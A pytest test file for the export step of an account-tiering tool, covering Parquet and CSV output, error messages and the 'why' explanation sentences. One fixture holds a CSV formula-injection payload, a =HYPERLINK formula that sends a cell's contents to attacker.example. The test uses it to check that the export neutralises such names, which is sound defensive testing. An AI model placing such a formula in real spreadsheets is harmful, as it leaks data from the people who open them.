"""Parquet and the CSV for people, and what every export does on an error."""

from __future__ import annotations

import csv
import datetime
import re
import shutil
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest

from tierwise.errors import TierwiseError
from tierwise.jobs import tier_file
from tierwise.model import default_model_text
from tierwise.report import SalesforceFields, export_results
from tierwise.report.people import why
from tierwise.sample import DEMO_AS_OF, build_demo_portfolio, generate_portfolio

CASE_18_NAMES = {
    "acc-1": '=HYPERLINK("http://attacker.example/?x="&A1,"Open")',
    "acc-2": "+Plus Minus Ltd",
    "acc-3": "@Acme Ops",
    "acc-4": "Negative Revenue Test",
}


def test_parquet_holds_the_results_with_the_runs_date_and_model(
    demo_run: Path, tmp_path: Path
) -> None:
    written = export_results(demo_run, "parquet", tmp_path)

    exported = pq.read_table(written.path)
    results = pq.read_table(demo_run / "tiers.parquet")
    assert written.path == tmp_path / "tiers.parquet"
    assert exported.num_rows == results.num_rows == written.accounts
    assert exported.column_names == [*results.column_names, "as_of", "model"]
    assert set(exported["as_of"].to_pylist()) == {datetime.date(2026, 9, 30)}
    assert set(exported["model"].to_pylist()) == {"default"}
    assert (
        exported.select(results.column_names).sort_by("account_id").to_pylist()
        == results.sort_by("account_id").to_pylist()
    )


def test_parquet_is_ordered_by_tier_then_rank(demo_run: Path, tmp_path: Path) -> None:
    exported = pq.read_table(export_results(demo_run, "parquet", tmp_path).path)

    tiers, ranks = exported["tier"].to_pylist(), exported["rank"].to_pylist()
    order = list(zip(tiers, ranks, strict=True))

    assert order == sorted(order)


def test_unassigned_accounts_are_exported_highest_total_first(tmp_path: Path) -> None:
    accounts = tmp_path / "accounts.parquet"
    pq.write_table(generate_portfolio(2000, seed=3), accounts)
    tier_file(accounts, tmp_path / "run", DEMO_AS_OF)

    exported = pq.read_table(export_results(tmp_path / "run", "parquet", tmp_path).path)
    unassigned = exported.filter(pc.equal(exported["tier"], "unassigned"))
    totals = unassigned["total"].to_pylist()

    assert len(totals) > 100
    assert totals == sorted(totals, reverse=True)


def test_the_csv_for_people_has_the_workbook_columns_and_a_byte_order_mark(
    demo_run: Path, tmp_path: Path
) -> None:
    path = export_results(demo_run, "csv", tmp_path).path

    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == pq.read_metadata(demo_run / "tiers.parquet").num_rows
    assert list(rows[0])[:5] == ["Account ID", "Account", "Tier", "Rank", "Total score"]
    assert rows[0]["Tier"] == "Strategic" and rows[0]["Rank"] == "1"


def _hostile_run(demo_run: Path, tmp_path: Path) -> Path:
    """The demo run with case 18's names given to four accounts."""
    run = tmp_path / "hostile"
    shutil.copytree(demo_run, run)
    table = pq.read_table(run / "tiers.parquet")
    ids = table["account_id"].to_pylist()
    names = table["name"].to_pylist()
    for n, name in enumerate(CASE_18_NAMES.values()):
        ids[n] = f"acc-{n + 1}"
        names[n] = name
    table = table.set_column(0, "account_id", [ids])
    table = table.set_column(1, "name", [names])
    pq.write_table(table, run / "tiers.parquet")
    return run


def test_case_18_the_csv_for_people_neutralises_names(
    demo_run: Path, tmp_path: Path
) -> None:
    path = export_results(_hostile_run(demo_run, tmp_path), "csv", tmp_path).path

    with path.open(encoding="utf-8-sig", newline="") as handle:
        names = {row["Account ID"]: row["Account"] for row in csv.DictReader(handle)}

    assert names["acc-1"] == "'" + CASE_18_NAMES["acc-1"]
    assert names["acc-2"] == "'+Plus Minus Ltd"
    assert names["acc-3"] == "'@Acme Ops"
    assert names["acc-4"] == "Negative Revenue Test"


def test_case_18_raw_keeps_names_for_a_machine_import(
    demo_run: Path, tmp_path: Path
) -> None:
    run = _hostile_run(demo_run, tmp_path)

    path = export_results(run, "csv", tmp_path / "raw", raw=True).path

    with path.open(encoding="utf-8-sig", newline="") as handle:
        names = {row["Account ID"]: row["Account"] for row in csv.DictReader(handle)}
    assert {key: names[key] for key in CASE_18_NAMES} == CASE_18_NAMES


@pytest.mark.parametrize("to", ["excel", "parquet"])
def test_raw_is_refused_for_formats_that_are_not_machine_csv(
    demo_run: Path, tmp_path: Path, to: str
) -> None:
    with pytest.raises(TierwiseError, match=r"--raw is for CSV files.*leave out --raw"):
        export_results(demo_run, to, tmp_path / "out", raw=True)


def test_salesforce_options_are_refused_for_other_formats(
    demo_run: Path, tmp_path: Path
) -> None:
    with pytest.raises(TierwiseError, match=r"apply to --to salesforce only"):
        export_results(
            demo_run, "excel", tmp_path, salesforce=SalesforceFields(tier="X__c")
        )


def test_an_unknown_format_names_the_formats(demo_run: Path, tmp_path: Path) -> None:
    with pytest.raises(
        TierwiseError,
        match=r"cannot export to 'dynamics'; choose one of salesforce, hubspot, "
        r"excel, csv, parquet",
    ):
        export_results(demo_run, "dynamics", tmp_path)


def test_a_missing_results_folder_says_to_run_tier_first(tmp_path: Path) -> None:
    with pytest.raises(
        TierwiseError,
        match=r"nowhere is not a results folder .*run `tierwise tier ACCOUNTS "
        r"--out .*nowhere`",
    ):
        export_results(tmp_path / "nowhere", "excel", tmp_path / "out")

    assert not (tmp_path / "out").exists()


def test_a_folder_without_results_says_to_run_tier_first(tmp_path: Path) -> None:
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "notes.txt").write_text("not a run")

    with pytest.raises(
        TierwiseError,
        match=r"holds no tiers.parquet or model.yaml or run.json.*`tierwise tier",
    ):
        export_results(tmp_path / "run", "csv", tmp_path / "out")


def test_results_from_another_model_are_refused(demo_run: Path, tmp_path: Path) -> None:
    run = tmp_path / "mixed"
    shutil.copytree(demo_run, run)
    model = (run / "model.yaml").read_text(encoding="utf-8")
    (run / "model.yaml").write_text(
        model.replace("  - key: fit\n", "  - key: firmographic\n"), encoding="utf-8"
    )

    with pytest.raises(TierwiseError, match=r"lacks the column\(s\) firmographic_"):
        export_results(run, "excel", tmp_path / "out")


def test_a_failed_export_leaves_the_output_folder_as_it_was(
    demo_run: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "salesforce-accounts-update.csv").write_text("last quarter's file")

    with pytest.raises(TierwiseError):
        export_results(demo_run, "salesforce", out)

    assert [path.name for path in out.iterdir()] == ["salesforce-accounts-update.csv"]
    assert (out / "salesforce-accounts-update.csv").read_text() == "last quarter's file"
    assert [path.name for path in tmp_path.iterdir()] == ["out"]


def test_an_export_replaces_its_own_file_and_keeps_others(
    demo_run: Path, tmp_path: Path
) -> None:
    (tmp_path / "tiers.xlsx").write_text("old")
    (tmp_path / "notes.txt").write_text("keep me")

    export_results(demo_run, "excel", tmp_path)

    assert (tmp_path / "tiers.xlsx").read_bytes().startswith(b"PK")
    assert (tmp_path / "notes.txt").read_text() == "keep me"
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        "notes.txt",
        "tiers.xlsx",
    ]


@pytest.mark.parametrize(
    ("tier", "thin", "blocked"),
    [
        pytest.param(
            "tier_3",
            "Too little of its data is known for a higher tier (88% known).",
            "Too little is known for a higher tier: its potential is unknown",
            id="placed-is-kept-from-a-higher-tier",
        ),
        pytest.param(
            "unassigned",
            "Too little of its data is known to place it in any tier (88% known).",
            "Too little is known to place it in a tier: its potential is unknown",
            id="unassigned-has-no-higher-tier",
        ),
    ],
)
def test_the_reason_sentence_names_an_unknown_potential(
    tier: str, thin: str, blocked: str
) -> None:
    row = {"reason": "insufficient_data", "tier": tier, "completeness": 88.0}

    def blocks(row: dict[str, object]) -> bool:
        return row["potential"] is None

    unknown = why({**row, "potential": None}, {}, blocks)
    known = why({**row, "potential": 250000.0}, {}, blocks)
    unbanded = why({**row, "potential": None}, {})

    assert unknown.startswith(blocked) and "88% known" in unknown
    assert known == unbanded == thin


@pytest.mark.parametrize("banded", [True, False], ids=["banded", "no-bands"])
def test_the_why_column_blames_an_unknown_potential_only_where_a_band_needs_it(
    tmp_path: Path, banded: bool
) -> None:
    # A strong account with no potential and no revenue to estimate one
    # from, and a thin one that is missing most of its data besides.
    portfolio = build_demo_portfolio()
    strong = dict(portfolio.slice(0, 1).to_pylist()[0], potential_acv=None)
    strong["annual_revenue"] = None
    thin: dict[str, object] = dict.fromkeys(strong)
    thin.update(account_id="thin", name="Thin Co", intent_score=95)
    thin["last_engagement_date"] = DEMO_AS_OF
    table = pa.Table.from_pylist([strong, thin], schema=portfolio.schema)
    accounts = tmp_path / "accounts.parquet"
    pq.write_table(table, accounts)
    text = default_model_text()
    if not banded:
        text = re.sub(r"(?m)^\s+potential: \{at_least: \d+\}\n", "", text)
    model = tmp_path / "model.yaml"
    model.write_text(text, encoding="utf-8")
    run = tmp_path / "run"
    tier_file(accounts, run, DEMO_AS_OF, model_path=model)

    path = export_results(run, "csv", tmp_path / "export").path
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = {row["Account ID"]: row for row in csv.DictReader(handle)}

    strong_row, thin_row = rows[strong["account_id"]], rows["thin"]
    assert thin_row["Reason"] == "insufficient_data"
    assert thin_row["Tier"] == "Unassigned"
    assert thin_row["Why"].startswith(
        "Too little of its data is known to place it in any tier ("
    )
    if banded:
        assert strong_row["Reason"] == "insufficient_data"
        assert "potential is unknown" in strong_row["Why"]
    else:
        assert "potential" not in strong_row["Why"]


def test_the_byte_order_mark_of_the_csv_for_people_is_documented() -> None:
    reference = (Path(__file__).parents[2] / "docs" / "cli.md").read_text("utf-8")

    csv_paragraph = reference.partition("**CSV.**")[2].partition("\n\n")[0]

    assert "UTF-8 byte-order mark" in " ".join(csv_paragraph.split())


def test_the_why_column_blames_the_potential_when_the_total_clears_the_lowest_tier(
    tmp_path: Path,
) -> None:
    # A strong account whose potential is below Programmatic's band (50,000):
    # its total clears every minimum, so the sentence must name the potential.
    portfolio = build_demo_portfolio()
    small = dict(portfolio.slice(0, 1).to_pylist()[0], potential_acv=25000)
    accounts = tmp_path / "accounts.parquet"
    pq.write_table(pa.Table.from_pylist([small], schema=portfolio.schema), accounts)
    run = tmp_path / "run"
    tier_file(accounts, run, DEMO_AS_OF)

    path = export_results(run, "csv", tmp_path / "export").path
    with path.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))

    assert row["Reason"] == "below_threshold"
    assert float(row["Total score"]) >= 30
    assert row["Why"] == (
        f"Scores {float(row['Total score']):.2f}, enough for Programmatic (at "
        "least 30), but its potential of 25,000 EUR is outside the band it "
        "needs (at least 50,000)."
    )


def test_the_why_column_keeps_the_score_sentence_for_a_low_total() -> None:
    row = {"reason": "below_threshold", "tier": "unassigned", "total": 12.5}

    assert why(row, {}) == "Scores below every tier's minimum."


def test_the_why_column_does_not_say_met_for_an_account_an_include_rule_named(
    tmp_path: Path,
) -> None:
    # The account lacks Strategic's executive sponsor and scores too low for
    # it, but an include rule names it: the reason code is still `met`, and
    # the sentence must not claim it meets everything Strategic requires.
    portfolio = build_demo_portfolio()
    named = dict(portfolio.slice(0, 1).to_pylist()[0], exec_sponsor=False)
    accounts = tmp_path / "accounts.parquet"
    pq.write_table(pa.Table.from_pylist([named], schema=portfolio.schema), accounts)
    rule = (
        "    include:\n"
        "      - name: board_pick\n"
        "        description: Chosen by the board.\n"
        f"        when: {{field: account_id, equals: {named['account_id']}}}\n"
    )
    text = default_model_text().replace(
        "    name: Strategic\n", "    name: Strategic\n" + rule, 1
    )
    model = tmp_path / "model.yaml"
    model.write_text(text, encoding="utf-8")
    run = tmp_path / "run"
    tier_file(accounts, run, DEMO_AS_OF, model_path=model)

    path = export_results(run, "csv", tmp_path / "export").path
    with path.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle))

    assert (row["Tier"], row["Reason"]) == ("Strategic", "met")
    assert row["Why"] == (
        "Meets everything Strategic requires, or one of its include rules "
        "names it (`tierwise explain` says which)."
    )
